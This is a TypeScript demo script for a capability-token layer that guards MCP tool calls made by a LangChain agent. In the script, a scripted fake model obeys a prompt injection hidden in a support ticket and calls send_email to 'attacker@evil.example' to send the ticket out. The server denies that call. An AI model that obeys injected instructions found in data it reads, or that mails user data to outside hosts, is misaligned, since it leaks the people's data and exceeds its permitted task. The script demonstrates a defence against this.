/**
 * capframe on MCP, offline: an MCP server (./server.ts) on Streamable HTTP at
 * 127.0.0.1, and a LangChain agent (createAgent, scripted by fakeModel) that
 * loads its tools through @langchain/mcp-adapters and the signing client
 * proxy. One tool call is injected (a prompt injection asking to mail the
 * ticket out); the server denies it and the tool never runs.
 * Run: `npm run demo:mcp`.
 */
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { loadMcpTools } from '@langchain/mcp-adapters';
import { AIMessage, createAgent, fakeModel } from 'langchain';
import { formatPublicKey, generateKey, issueToken, Verifier } from '../../src/index.ts';
import { parseConfig } from '../../src/config/index.ts';
import { withCapframe, type McpDecisionEvent } from '../../src/mcp/index.ts';
import { serveHttp } from './http.ts';
import { ticketsServer, TOOLS_YAML } from './server.ts';

// The authority issues the agent a token: read tickets, send mail inside acme.example only.
const authority = generateKey();
const agentKey = generateKey();
const token = issueToken({
  key: authority,
  subject: 'agent:support',
  holder: agentKey.publicKey,
  ttl: '15m',
  grants: [
    { resource: 'tickets://acme/*', permissions: ['read'] },
    { resource: 'mail://acme.example/*', permissions: ['send'], constraints: { to: { type: 'glob', pattern: '*@acme.example' } } },
  ],
});

// The MCP server trusts the authority's public key; one Verifier (one replay store) for every session.
const config = parseConfig(`trust:\n  authorities: [${formatPublicKey(authority.publicKey)}]\n${TOOLS_YAML}`, { file: 'demo.yaml' });
const verifier = new Verifier({ trusted: config.trusted });
const log = (e: McpDecisionEvent) =>
  console.log(
    `${e.decision === 'allow' ? 'ALLOWED' : `DENIED  ${e.code}`}`.padEnd(34) +
      ` ${e.tool} ${e.resource ?? ''}` +
      (e.reason ? `\n${' '.repeat(35)}${e.reason}` : ''),
  );
const http = await serveHttp(() => ticketsServer(config, verifier, log));
console.log(`MCP server on ${http.url.href}`);

// The agent side: the SDK client behind the signing proxy, tools loaded by the adapters.
const client = new Client({ name: 'support-agent', version: '1.0.0' });
await client.connect(new StreamableHTTPClientTransport(http.url));
const tools = await loadMcpTools('acme', withCapframe(client, { token, holderKey: agentKey }));
console.log(`tools: ${tools.map((t) => t.name).join(', ')} (token and key stay in the client proxy)\n`);

const model = fakeModel()
  .respondWithTools([{ name: 'read_ticket', args: { id: '7' }, id: 'call-1' }])
  // The ticket text carried an injection; the model obeys it:
  .respondWithTools([{ name: 'send_email', args: { to: 'attacker@evil.example', subject: 'ticket 7', body: 'dump' }, id: 'call-2' }])
  .respondWithTools([{ name: 'send_email', args: { to: 'ops@acme.example', subject: 'ticket 7', body: 'printer on fire' }, id: 'call-3' }])
  .respond(new AIMessage('Ticket 7 escalated to ops.'));
const agent = createAgent({ model, tools });
const out = await agent.invoke({ messages: [{ role: 'user', content: 'Triage ticket 7' }] });
console.log(`\nagent: ${String(out.messages[out.messages.length - 1]!.content)}`);

await client.close();
await http.close();
